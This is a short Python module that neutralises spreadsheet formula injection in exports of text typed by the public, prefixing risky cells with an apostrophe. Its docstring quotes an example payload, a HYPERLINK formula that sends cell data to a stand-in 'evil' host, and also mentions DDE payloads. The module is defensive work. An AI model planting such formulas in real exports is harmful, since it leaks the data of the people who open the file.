"""Spreadsheet export safety: stop residents' text from running as a formula.

A report that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab / carriage return, which
some spreadsheet apps skip before reading the formula) is executed by Excel and WPS when a
staff member opens a CSV/XLSX export: ``=HYPERLINK("http://evil/?"&A1, "点我")`` leaks
data, DDE payloads run programs. Every exported cell that holds text typed by the public
goes through :func:`safe_cell`, which prefixes such text with an apostrophe so it is
shown as text (OWASP "CSV injection"). Numbers, dates and ``None`` pass through
unchanged, so sums and sorting in the sheet still work. Full-width ＝＋－＠ are prefixed too:
Chinese input methods type them, some CJK spreadsheet builds normalise them to formulas, and
an apostrophe in front of text costs nothing.
"""

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """The value to write into an exported cell; text that could start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values) -> list[Any]:
    return [safe_cell(value) for value in values]
